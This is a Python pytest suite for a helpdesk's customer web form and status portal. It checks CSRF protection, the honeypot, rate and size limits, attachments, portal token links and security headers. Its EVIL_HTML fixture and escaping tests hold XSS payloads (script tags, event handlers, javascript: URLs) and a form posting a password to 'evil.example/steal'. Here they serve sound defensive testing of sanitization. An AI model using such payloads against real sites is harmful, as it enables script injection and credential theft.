"""The customer pages over real HTTP: the web form (CSRF, honeypot, limits) and the status portal.

Each ``aiohttp.ClientSession`` with its own cookie jar plays one browser: it loads a page, keeps
the CSRF cookie and posts back the hidden ``form_id``/``csrf`` inputs it was given, as a browser
does. The agents' side is read through the REST API with a supervisor's token.
"""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import aiohttp
import pytest
from sqlalchemy import select, update
from yarl import URL

from core.messages import Channel, InboundMessage, Sender
from core.persistence.models import Quarantine, Ticket
from core.ports import utc_now
from tests.conftest import Server, ServerFactory

FORM_FIELDS = {
    "name": "Ann Lee",
    "email": "ann@example.org",
    "subject": "Printer on fire",
    "message": "Smoke is coming out of the printer.\nWhat should I do?",
}
VOID_TAGS = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "wbr"}


class Page(HTMLParser):
    """What the tests read from an HTML page: form controls, and elements by id."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.html = html
        self.controls: dict[str, dict[str, str]] = {}  # name -> attributes (+ textarea "value")
        self.attrs: dict[str, dict[str, str]] = {}  # id -> attributes
        self.texts: dict[str, str] = {}  # id -> text content
        self.forms: list[dict[str, str]] = []
        self.title = ""
        self._stack: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if "id" in a:
            self.attrs[a["id"]] = a
        if tag in ("input", "textarea") and "name" in a:
            self.controls[a["name"]] = {"tag": tag, **a}
        if tag == "form":
            self.forms.append(a)
        if tag not in VOID_TAGS:
            self._stack.append((tag, a))

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self._stack) - 1, -1, -1):
            if self._stack[i][0] == tag:
                del self._stack[i:]
                return

    def handle_data(self, data: str) -> None:
        for tag, a in self._stack:
            if "id" in a:
                self.texts[a["id"]] = self.texts.get(a["id"], "") + data
            if tag == "title":
                self.title += data
            if tag == "textarea" and "name" in a:
                control = self.controls[a["name"]]
                control["value"] = control.get("value", "") + data

    def value(self, name: str) -> str:
        return self.controls[name].get("value", "")

    def text(self, element_id: str) -> str:
        return " ".join(self.texts.get(element_id, "").split())


@dataclass
class Reply:
    status: int
    headers: Any
    page: Page
    location: str | None = None


@dataclass
class Browser:
    """One customer's browser: its own cookie jar, and pages fetched and forms posted."""

    session: aiohttp.ClientSession
    base_url: str

    async def get(self, url: str) -> Reply:
        async with self.session.get(self._url(url)) as resp:
            return Reply(resp.status, resp.headers, Page(await resp.text()))

    async def post(
        self,
        url: str,
        form: Page | None,
        *,
        files: Sequence[tuple[str, bytes]] = (),
        **fields: str | None,
    ) -> Reply:
        """Post a form as a browser does: multipart, with the page's hidden inputs."""
        values: dict[str, str | None] = {}
        if form is not None:
            values = {"form_id": form.value("form_id"), "csrf": form.value("csrf")}
        values.update(fields)
        data = aiohttp.FormData(quote_fields=False, default_to_multipart=True)
        for key, value in values.items():
            if value is not None:  # None leaves the field out
                data.add_field(key, value)
        for filename, content in files:
            data.add_field(
                "attachments", content, filename=filename, content_type="application/octet-stream"
            )
        async with self.session.post(self._url(url), data=data, allow_redirects=False) as resp:
            return Reply(
                resp.status, resp.headers, Page(await resp.text()), resp.headers.get("Location")
            )

    async def submit(
        self, form: Page | None = None, *, files: Sequence[tuple[str, bytes]] = (), **fields: str
    ) -> Reply:
        """Fill the contact form (loading a fresh one unless given) and send it."""
        if form is None:
            form = (await self.get("/")).page
        return await self.post("/", form, files=files, **{**FORM_FIELDS, **fields})

    def _url(self, url: str) -> str:
        return url if url.startswith("http") else f"{self.base_url}{url}"


BrowserFactory = Callable[[Server], Awaitable[Browser]]


@pytest.fixture
async def browsers() -> AsyncIterator[BrowserFactory]:
    sessions: list[aiohttp.ClientSession] = []

    async def open_browser(server: Server) -> Browser:
        # unsafe=True: keep cookies for an IP address host (127.0.0.1), as a browser does
        session = aiohttp.ClientSession(
            cookie_jar=aiohttp.CookieJar(unsafe=True), headers={"Accept": "text/html"}
        )
        sessions.append(session)
        return Browser(session, server.base_url)

    yield open_browser
    for session in sessions:
        await session.close()


@pytest.fixture
async def customer(server: Server, browsers: BrowserFactory) -> Browser:
    return await browsers(server)


@dataclass
class Desk:
    """The agents' side of the service, through the REST API."""

    http: aiohttp.ClientSession
    server: Server
    headers: dict[str, str] = field(default_factory=dict)

    @classmethod
    async def open(cls, http: aiohttp.ClientSession, server: Server) -> Desk:
        token, _ = await server.token("supervisor")
        return cls(http, server, {"Authorization": f"Bearer {token}"})

    async def ticket(self, number: int) -> dict[str, Any]:
        url = f"{self.server.base_url}/api/v1/tickets/{number}"
        async with self.http.get(url, headers=self.headers) as resp:
            assert resp.status == 200, await resp.text()
            return dict(await resp.json())

    async def total(self) -> int:
        """How many tickets exist."""
        url = f"{self.server.base_url}/api/v1/tickets"
        async with self.http.get(url, headers=self.headers) as resp:
            assert resp.status == 200, await resp.text()
            return int((await resp.json())["total"])

    async def call(self, method: str, path: str, body: dict[str, Any]) -> dict[str, Any]:
        url = f"{self.server.base_url}/api/v1/tickets{path}"
        async with self.http.request(method, url, json=body, headers=self.headers) as resp:
            assert resp.status in (200, 201), await resp.text()
            return dict(await resp.json())

    async def download(self, number: int, attachment_id: int) -> bytes:
        url = f"{self.server.base_url}/api/v1/tickets/{number}/attachments/{attachment_id}"
        async with self.http.get(url, headers=self.headers) as resp:
            assert resp.status == 200, await resp.text()
            return await resp.read()


@pytest.fixture
async def desk(server: Server, http: aiohttp.ClientSession) -> Desk:
    return await Desk.open(http, server)


def inbound(ticket: dict[str, Any]) -> list[dict[str, Any]]:
    return [m for m in ticket["messages"] if m["kind"] == "inbound"]


def path_of(url: str) -> str:
    return urlsplit(url).path


def assert_security_headers(reply: Reply) -> None:
    csp = reply.headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp
    assert "script-src" not in csp  # so no script of any origin may run
    assert "frame-ancestors 'none'" in csp
    assert "form-action 'self'" in csp
    assert reply.headers["X-Content-Type-Options"] == "nosniff"
    assert reply.headers["Referrer-Policy"] == "no-referrer"


async def quarantined(server: Server) -> list[Any]:
    q = Quarantine.__table__
    return list(
        await server.helpdesk.db.read(
            lambda c: c.execute(select(q.c.channel, q.c.reason, q.c.raw).order_by(q.c.id)).all()
        )
    )


def history_html(page: Page) -> str:
    """The raw markup of the public history, where customer content is shown."""
    start = page.html.index('<div id="history">')
    end = page.html.rfind('<form method="post"')  # the reply box, after any injected markup
    return page.html[start : end if end > start else None]


def stored_files(server: Server) -> list[str]:
    root = server.helpdesk.attachments.root
    return [p.name for p in root.rglob("*") if p.is_file()] if root.exists() else []


# -- the form -------------------------------------------------------------------------------


async def test_form_page_has_the_fields_a_csrf_token_and_a_honeypot(customer: Browser) -> None:
    reply = await customer.get("/")

    assert reply.status == 200
    assert reply.headers["Content-Type"].startswith("text/html")
    page = reply.page
    (form,) = page.forms
    assert form["method"] == "post" and form["action"] == "/"
    assert form["enctype"] == "multipart/form-data"  # attachments work without JavaScript
    assert page.controls["name"]["type"] == "text"
    assert page.controls["email"]["type"] == "email"
    assert page.controls["subject"]["type"] == "text"
    assert page.controls["message"]["tag"] == "textarea"
    assert page.controls["attachments"]["type"] == "file"
    assert "multiple" in page.controls["attachments"]
    assert page.controls["form_id"]["type"] == "hidden" and page.value("form_id")
    assert page.controls["csrf"]["type"] == "hidden" and len(page.value("csrf")) >= 32
    honeypot = page.controls["website"]
    assert honeypot["type"] == "text" and honeypot["tabindex"] == "-1"
    assert "<script" not in page.html.lower()
    assert_security_headers(reply)

    cookie = customer.session.cookie_jar.filter_cookies(URL(customer.base_url))
    assert "hl_csrf" in cookie
    again = (await customer.get("/")).page
    assert again.value("form_id") != page.value("form_id")  # one id per rendered form


async def test_form_cookie_is_httponly_and_samesite(
    server: Server, http: aiohttp.ClientSession
) -> None:
    async with http.get(f"{server.base_url}/") as resp:
        set_cookie = resp.headers["Set-Cookie"]
    assert set_cookie.startswith("hl_csrf=")
    assert "HttpOnly" in set_cookie
    assert "SameSite=Lax" in set_cookie
    assert "Path=/" in set_cookie


async def test_submit_shows_the_ticket_number_and_a_status_link(
    db_url: str, server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(db_url)
    customer = await browsers(server)

    reply = await customer.submit()

    assert reply.status == 200
    assert reply.page.text("ticket-number") == "#1"
    status_url = reply.page.attrs["status-link"]["href"]
    assert status_url.startswith(f"{server.base_url}/t/1/")
    token = status_url.rsplit("/", 1)[1]
    assert len(token) * 6 >= 128  # base64url characters carry 6 bits each
    assert_security_headers(reply)

    ticket = await (await Desk.open(http, server)).ticket(1)
    assert ticket["channel"] == "web"
    assert ticket["subject"] == FORM_FIELDS["subject"]
    assert ticket["customer"]["email"] == FORM_FIELDS["email"]
    assert ticket["customer"]["name"] == FORM_FIELDS["name"]
    assert ticket["status_url"] == status_url
    assert [m["text"] for m in inbound(ticket)] == [FORM_FIELDS["message"]]

    portal = await customer.get(status_url)
    assert portal.status == 200
    assert portal.page.title.startswith("Ticket #1")
    assert portal.page.text("ticket-status") == "Received"
    assert f"Ticket #1: {FORM_FIELDS['subject']}" in portal.page.html
    assert "Smoke is coming out of the printer." in portal.page.text("history")
    assert portal.page.controls["message"]["tag"] == "textarea"  # the reply box
    assert portal.page.value("form_id") and portal.page.value("csrf")
    assert_security_headers(portal)


async def test_status_link_works_from_any_browser(
    server: Server, customer: Browser, browsers: BrowserFactory
) -> None:
    """The link is the credential: the customer may open it on their phone later."""
    status_url = (await customer.submit()).page.attrs["status-link"]["href"]
    elsewhere = await browsers(server)

    portal = await elsewhere.get(status_url)

    assert portal.status == 200
    assert portal.page.text("ticket-status") == "Received"


async def test_portal_shows_agent_replies_but_not_internal_notes(
    customer: Browser, desk: Desk
) -> None:
    status_url = (await customer.submit()).page.attrs["status-link"]["href"]
    await desk.call("POST", "/1/replies", {"text": "Unplug it and step away."})
    await desk.call("POST", "/1/notes", {"text": "SECRET: customer is on the VIP list"})

    history = (await customer.get(status_url)).page.text("history")

    assert "Unplug it and step away." in history
    assert "Acme Support support" in history
    assert "SECRET" not in history
    assert (await customer.get(status_url)).page.text("ticket-status") == "In progress"


async def test_portal_reply_continues_the_ticket_and_reopens_it_when_resolved(
    db_url: str, server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(db_url)
    customer = await browsers(server)
    desk = await Desk.open(http, server)
    status_url = (await customer.submit()).page.attrs["status-link"]["href"]
    await desk.call("PATCH", "/1", {"status": "resolved"})
    portal = await customer.get(status_url)
    assert portal.page.text("ticket-status") == "Resolved"

    reply = await customer.post(status_url, portal.page, message="It is smoking again.")

    assert reply.status == 303  # Post/Redirect/Get: a reload does not post twice
    assert reply.location == f"{path_of(status_url)}?sent=1"
    ticket = await desk.ticket(1)
    assert [m["text"] for m in inbound(ticket)] == [
        FORM_FIELDS["message"],
        "It is smoking again.",
    ]
    assert ticket["status"] == "open"
    assert ticket["reopen_count"] == 1
    assert await desk.total() == 1
    after = await customer.get(f"{server.base_url}{reply.location}")
    assert after.page.text("sent-notice") == "Your reply has been added to the ticket."
    assert after.page.text("ticket-status") == "In progress"
    assert "It is smoking again." in after.page.text("history")


async def test_portal_reply_to_an_open_ticket_keeps_it_and_its_status(
    customer: Browser, desk: Desk
) -> None:
    status_url = (await customer.submit()).page.attrs["status-link"]["href"]
    portal = (await customer.get(status_url)).page

    first = await customer.post(status_url, portal, message="One more detail.")
    again = await customer.post(status_url, portal, message="One more detail.")  # double click

    assert (first.status, again.status) == (303, 303)
    ticket = await desk.ticket(1)
    assert len(inbound(ticket)) == 2  # the form id made the second post a no-op
    assert ticket["status"] == "new"
    assert await desk.total() == 1


async def test_portal_reply_must_not_be_empty(customer: Browser, desk: Desk) -> None:
    status_url = (await customer.submit()).page.attrs["status-link"]["href"]
    portal = (await customer.get(status_url)).page

    reply = await customer.post(status_url, portal, message="   ")

    assert reply.status == 400
    assert "Please write a message" in reply.page.text("reply-error")
    assert len(inbound(await desk.ticket(1))) == 1


async def test_portal_reply_needs_the_csrf_token(customer: Browser, desk: Desk) -> None:
    status_url = (await customer.submit()).page.attrs["status-link"]["href"]
    portal = (await customer.get(status_url)).page

    missing = await customer.post(status_url, None, message="forged")
    forged = await customer.post(
        status_url, None, form_id=portal.value("form_id"), csrf="0" * 64, message="forged"
    )

    assert (missing.status, forged.status) == (403, 403)
    assert len(inbound(await desk.ticket(1))) == 1


async def test_portal_reply_to_a_closed_ticket_leads_to_the_new_ticket(
    customer: Browser, desk: Desk
) -> None:
    """A tab opened before the ticket was closed still posts; the reply opens a linked ticket
    and the customer is shown that ticket, not the closed one."""
    status_url = (await customer.submit()).page.attrs["status-link"]["href"]
    stale = (await customer.get(status_url)).page
    await desk.call("PATCH", "/1", {"status": "resolved"})
    await desk.call("PATCH", "/1", {"status": "closed"})
    closed = (await customer.get(status_url)).page
    assert closed.text("ticket-status") == "Closed"
    assert "message" not in closed.controls  # no reply box on a closed ticket

    reply = await customer.post(status_url, stale, message="Still broken.")

    assert reply.status == 303
    new = await desk.ticket(2)
    assert new["related_ticket"] is not None
    assert [m["text"] for m in inbound(new)] == ["Still broken."]
    assert reply.location is not None
    assert path_of(reply.location) == path_of(new["status_url"])
    shown = await customer.get(reply.location)
    assert shown.page.title.startswith("Ticket #2")
    assert shown.page.text("sent-notice")


# -- CSRF ---------------------------------------------------------------------------------


async def test_missing_or_invalid_csrf_is_refused_and_opens_no_ticket(
    server: Server, customer: Browser, browsers: BrowserFactory, desk: Desk
) -> None:
    page = (await customer.get("/")).page
    form_id = page.value("form_id")
    cookieless = await browsers(server)
    attempts = {
        "no token fields": await customer.post("/", None, **FORM_FIELDS),
        "empty token": await customer.post("/", None, form_id=form_id, csrf="", **FORM_FIELDS),
        "tampered token": await customer.post(
            "/", None, form_id=form_id, csrf=page.value("csrf")[::-1], **FORM_FIELDS
        ),
        "token of another form id": await customer.post(
            "/", None, form_id=form_id + "x", csrf=page.value("csrf"), **FORM_FIELDS
        ),
        "non-ascii token": await customer.post(
            "/", None, form_id=form_id, csrf="é" * 64, **FORM_FIELDS
        ),
        "no cookie": await cookieless.post("/", page, **FORM_FIELDS),
    }

    for case, reply in attempts.items():
        assert reply.status == 403, case
        assert reply.page.title.startswith("This form has expired"), case
        assert_security_headers(reply)
    assert await desk.total() == 0
    # the untouched form still works: the refusals did not consume it
    assert (await customer.submit(page)).page.text("ticket-number") == "#1"


async def test_cookie_of_one_browser_with_the_token_of_another_is_refused(
    server: Server, browsers: BrowserFactory, desk: Desk
) -> None:
    alice, mallory = await browsers(server), await browsers(server)
    alice_form = (await alice.get("/")).page
    await mallory.get("/")  # Mallory has a cookie of her own

    stolen = await mallory.submit(alice_form)

    assert stolen.status == 403
    assert await desk.total() == 0
    assert (await alice.submit(alice_form)).status == 200


# -- abuse: honeypot, rate limit, sizes ------------------------------------------------------


async def test_honeypot_shows_thanks_opens_no_ticket_and_quarantines(
    db_url: str, server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(db_url)
    bot = await browsers(server)

    reply = await bot.submit(website="http://cheap-pills.example", email="bot@spam.example")

    assert reply.status == 200
    assert reply.page.title.startswith("Message received")  # nothing tells the bot it failed
    assert "ticket-number" not in reply.page.texts
    assert "status-link" not in reply.page.attrs
    assert await (await Desk.open(http, server)).total() == 0
    (kept,) = await quarantined(server)
    assert kept.channel == "web"
    assert "honeypot" in kept.reason
    assert b"bot@spam.example" in kept.raw
    assert b"cheap-pills.example" in kept.raw


async def test_rate_limit_answers_429_after_n_submissions_from_one_ip(
    server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(intake={"rate_limit_per_minute": 3})
    customer = await browsers(server)
    forms = [(await customer.get("/")).page for _ in range(4)]

    replies = [await customer.submit(form) for form in forms]

    assert [r.status for r in replies] == [200, 200, 200, 429]
    assert replies[3].page.title.startswith("Too many submissions")
    assert "seconds" in replies[3].page.text("error-detail")
    assert_security_headers(replies[3])
    assert await (await Desk.open(http, server)).total() == 3
    assert (await customer.get("/")).status == 200  # reading the form is not limited


async def test_invalid_email_is_400_naming_the_field_and_keeps_the_values(
    customer: Browser, desk: Desk
) -> None:
    typed = {**FORM_FIELDS, "email": "ann at example", "name": 'Ann "<b>" Lee'}

    reply = await customer.submit(**typed)

    assert reply.status == 400
    page = reply.page
    assert "not a valid email address" in page.text("email-error")
    assert "message-error" not in page.texts
    for name in ("name", "email", "subject", "message"):
        assert page.value(name) == typed[name], name
    assert "<b>" not in page.html  # kept values are escaped, not markup
    assert_security_headers(reply)
    assert await desk.total() == 0

    fixed = await customer.submit(page, **{**typed, "email": "ann@example.org"})
    assert fixed.page.text("ticket-number") == "#1"


@pytest.mark.parametrize(
    ("fields", "error_id", "words"),
    [
        ({"message": "  \n "}, "message-error", "describe your problem"),
        ({"message": "x" * 501}, "message-error", "longer than 500"),
        ({"subject": "s" * 41}, None, "longer than 40"),
    ],
    ids=["empty message", "long message", "long subject"],
)
async def test_invalid_fields_are_400_with_the_error_next_to_the_field(
    server_factory: ServerFactory,
    browsers: BrowserFactory,
    http: aiohttp.ClientSession,
    fields: dict[str, str],
    error_id: str | None,
    words: str,
) -> None:
    server = await server_factory(intake={"max_body_chars": 500, "max_subject_chars": 40})
    customer = await browsers(server)

    reply = await customer.submit(**fields)

    assert reply.status == 400
    if error_id:
        assert words in reply.page.text(error_id)
    assert words in reply.page.html
    assert await (await Desk.open(http, server)).total() == 0


async def test_malformed_form_is_400_naming_the_field(customer: Browser, desk: Desk) -> None:
    form = (await customer.get("/")).page
    broken = await customer.session.post(
        f"{customer.base_url}/",
        data=b"--xyz\r\nnot a header line\r\n\r\nvalue\r\n--xyz--\r\n",
        headers={"Content-Type": "multipart/form-data; boundary=xyz", "Accept": "*/*"},
    )
    assert broken.status == 400
    assert (await broken.json())["field"] == "form"

    data = aiohttp.FormData()
    for key, value in {**FORM_FIELDS, "form_id": form.value("form_id")}.items():
        if key != "message":
            data.add_field(key, value)
    data.add_field("csrf", form.value("csrf"))
    data.add_field("message", b"\x89PNG", filename="message.png")  # a file where text belongs
    as_file = await customer.session.post(
        f"{customer.base_url}/", data=data, headers={"Accept": "application/json"}
    )
    assert as_file.status == 400
    assert (await as_file.json())["field"] == "message"

    bad_charset = await customer.session.post(
        f"{customer.base_url}/",
        data=b"email=a%40b.cc",
        headers={
            "Content-Type": "application/x-www-form-urlencoded; charset=no-such-charset",
            "Accept": "application/json",
        },
    )
    assert bad_charset.status == 400
    assert (await bad_charset.json())["field"] == "form"
    assert await desk.total() == 0


async def test_oversized_body_is_413(
    server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(intake={"max_request_bytes": 4096})
    customer = await browsers(server)

    reply = await customer.submit(message="x" * 20_000)

    assert reply.status == 413
    assert reply.page.title.startswith("Too large")
    assert_security_headers(reply)
    assert await (await Desk.open(http, server)).total() == 0
    assert (await customer.submit()).status == 200  # a normal submission still works


async def test_attachment_over_the_limit_is_413_and_nothing_is_stored(
    server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(intake={"max_attachment_bytes": 1000, "max_attachments": 2})
    customer = await browsers(server)
    desk = await Desk.open(http, server)
    form = (await customer.get("/")).page

    too_big = await customer.submit(form, files=[("ok.txt", b"fine"), ("big.bin", b"x" * 1001)])
    too_many = await customer.submit(
        form, files=[("a.txt", b"a"), ("b.txt", b"b"), ("c.txt", b"c")]
    )

    assert (too_big.status, too_many.status) == (413, 413)
    assert "big.bin" in too_big.page.text("error-detail")
    assert await desk.total() == 0
    assert stored_files(server) == []
    # nothing was recorded under the form's id either: the corrected form goes through
    fixed = await customer.submit(form, files=[("small.bin", b"x" * 1000)])
    assert fixed.page.text("ticket-number") == "#1"


async def test_attachments_are_stored_and_downloadable(
    db_url: str, server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(db_url)
    customer = await browsers(server)
    desk = await Desk.open(http, server)
    files = [("résumé.txt", "Grüße\n".encode()), ("photo.bin", bytes(range(256)) * 4)]

    reply = await customer.submit(files=files)

    assert reply.page.text("ticket-number") == "#1"
    (message,) = inbound(await desk.ticket(1))
    listed = sorted(message["attachments"], key=lambda a: a["filename"])
    expected = sorted(files)
    assert [(a["filename"], a["size"], a["sha256"]) for a in listed] == [
        (name, len(content), hashlib.sha256(content).hexdigest()) for name, content in expected
    ]
    for attachment, (_, content) in zip(listed, expected, strict=True):
        assert await desk.download(1, attachment["id"]) == content
    portal = await customer.get(reply.page.attrs["status-link"]["href"])
    assert "résumé.txt" in portal.page.text("history")
    assert "photo.bin" in portal.page.text("history")


async def test_double_submit_of_one_rendered_form_opens_one_ticket(
    db_url: str, server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(db_url)
    customer = await browsers(server)
    form = (await customer.get("/")).page

    first = await customer.submit(form)
    replies = [first, *await asyncio.gather(*(customer.submit(form) for _ in range(5)))]

    assert {r.status for r in replies} == {200}
    assert {r.page.text("ticket-number") for r in replies} == {"#1"}
    assert len({r.page.attrs["status-link"]["href"] for r in replies}) == 1
    desk = await Desk.open(http, server)
    assert await desk.total() == 1
    assert len(inbound(await desk.ticket(1))) == 1
    # a new rendering of the form is a new submission
    assert (await customer.submit()).page.text("ticket-number") == "#2"


# -- the portal link --------------------------------------------------------------------------


async def test_wrong_or_tampered_portal_token_is_404(
    customer: Browser, browsers: BrowserFactory, server: Server, desk: Desk
) -> None:
    first = (await customer.submit()).page.attrs["status-link"]["href"]
    second = (await customer.submit()).page.attrs["status-link"]["href"]
    token = first.rsplit("/", 1)[1]
    other_token = second.rsplit("/", 1)[1]
    flipped = ("A" if token[0] != "A" else "B") + token[1:]
    stranger = await browsers(server)
    bad_paths = [
        f"/t/1/{flipped}",
        f"/t/1/{other_token}",  # ticket 2's token does not open ticket 1
        f"/t/2/{token}",
        f"/t/1/{token[:-1]}",
        f"/t/1/{token}A",
        "/t/1/" + "%C3%A9" * len(token),  # non-ASCII
        f"/t/01x/{token}",
        f"/t/{'9' * 30}/{token}",
        f"/t/999/{token}",
        f"/t/%C2%B2/{token}",  # "²": a digit to str.isdigit, not to int()
    ]

    for path in bad_paths:
        reply = await stranger.get(path)
        assert reply.status == 404, path
        assert FORM_FIELDS["message"].split("\n")[0] not in reply.page.html, path
        assert_security_headers(reply)

    portal = (await customer.get(first)).page
    forged = await customer.post(f"/t/1/{flipped}", portal, message="let me in")
    assert forged.status == 404
    assert len(inbound(await desk.ticket(1))) == 1


async def test_bumping_portal_version_revokes_the_old_link(
    db_url: str, server_factory: ServerFactory, browsers: BrowserFactory, http
) -> None:
    server = await server_factory(db_url)
    customer = await browsers(server)
    desk = await Desk.open(http, server)
    old_url = (await customer.submit()).page.attrs["status-link"]["href"]
    open_tab = (await customer.get(old_url)).page

    await server.helpdesk.db.write(
        lambda c: c.execute(
            update(Ticket)
            .where(Ticket.number == 1)
            .values(portal_version=Ticket.portal_version + 1)
        )
    )

    assert (await customer.get(old_url)).status == 404
    assert (await customer.post(old_url, open_tab, message="still there?")).status == 404
    assert len(inbound(await desk.ticket(1))) == 1
    new_url = (await desk.ticket(1))["status_url"]
    assert new_url != old_url
    assert (await customer.get(new_url)).page.text("ticket-status") == "Received"


# -- customer HTML ------------------------------------------------------------------------------

EVIL_HTML = """
<p>Hello <b>team</b>, see <a href="https://example.org/help">the guide</a>.</p>
<script>document.title = "pwned"; alert("script")</script>
<img src="x" onerror="document.title = 'pwned'; alert('onerror')">
<a href="javascript:alert('link')">click me</a>
<a href="JaVaScRiPt:alert('link2')">and me</a>
<svg onload="alert('svg')"><circle r="5"/></svg>
<iframe src="javascript:alert('frame')"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="password"></form>
<div style="background:url(javascript:alert('css'))" onclick="alert('click')">styled</div>
"""


async def ingest_html(server: Server, html: str, subject: str = "Invoice question") -> str:
    """An email with HTML, as the email adapter hands it over; returns the status link."""
    result = await server.helpdesk.ingest(
        InboundMessage(
            channel=Channel.EMAIL,
            external_id="<evil-1@mail.example>",
            sender=Sender("eve@example.org", "Eve", "eve@example.org"),
            subject=subject,
            text="Hello team, see the guide.",
            html=html,
            received_at=utc_now(),
        )
    )
    assert result.created and result.status_url is not None
    return result.status_url


async def test_customer_html_is_sanitized_on_the_portal(server: Server, customer: Browser) -> None:
    status_url = await ingest_html(server, EVIL_HTML)

    reply = await customer.get(status_url)

    assert reply.status == 200
    history = history_html(reply.page).lower()
    for banned in (
        "<script",
        "onerror",
        "onload",
        "onclick",
        "javascript:",
        "<iframe",
        "<svg",
        "<style",
        "<form",
        "<input",
        "evil.example",
        "style=",
        "alert(",
        "pwned",
    ):
        assert banned not in history, banned
    # formatting and safe links survive, links cannot reach back with a referrer or an opener
    assert "<b>team</b>" in history
    assert 'href="https://example.org/help"' in history
    assert "noopener" in history and "noreferrer" in history
    assert "the guide" in reply.page.text("history")
    assert reply.page.title.startswith("Ticket #1")


async def test_customer_subject_is_escaped_on_the_portal(server: Server, customer: Browser) -> None:
    subject = '<img src=x onerror="alert(1)">'
    status_url = await ingest_html(server, "<p>hi</p>", subject=subject)

    reply = await customer.get(status_url)

    assert "<img src=x" not in reply.page.html
    assert "&lt;img src=x onerror=" in reply.page.html
    assert reply.page.title == "Ticket #1 · Acme Support"


async def test_customer_text_is_escaped_on_the_portal(customer: Browser) -> None:
    text = "<script>alert(1)</script> & <b>bold?</b>"
    status_url = (await customer.submit(message=text, subject="<i>hi</i>")).page.attrs[
        "status-link"
    ]["href"]

    reply = await customer.get(status_url)

    assert "<script>alert(1)</script>" not in reply.page.html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in reply.page.html
    assert text in reply.page.text("history")
    assert "<i>hi</i>" not in reply.page.html


# -- headers --------------------------------------------------------------------------------


async def test_every_page_carries_the_security_headers(customer: Browser) -> None:
    form = await customer.get("/")
    invalid = await customer.submit(email="nope")
    submitted = await customer.submit()
    portal = await customer.get(submitted.page.attrs["status-link"]["href"])
    missing = await customer.get("/t/1/nope")
    unknown = await customer.get("/no-such-page")

    assert [r.status for r in (form, invalid, submitted, portal, missing, unknown)] == [
        200,
        400,
        200,
        200,
        404,
        404,
    ]
    for reply in (form, invalid, submitted, portal, missing, unknown):
        assert_security_headers(reply)
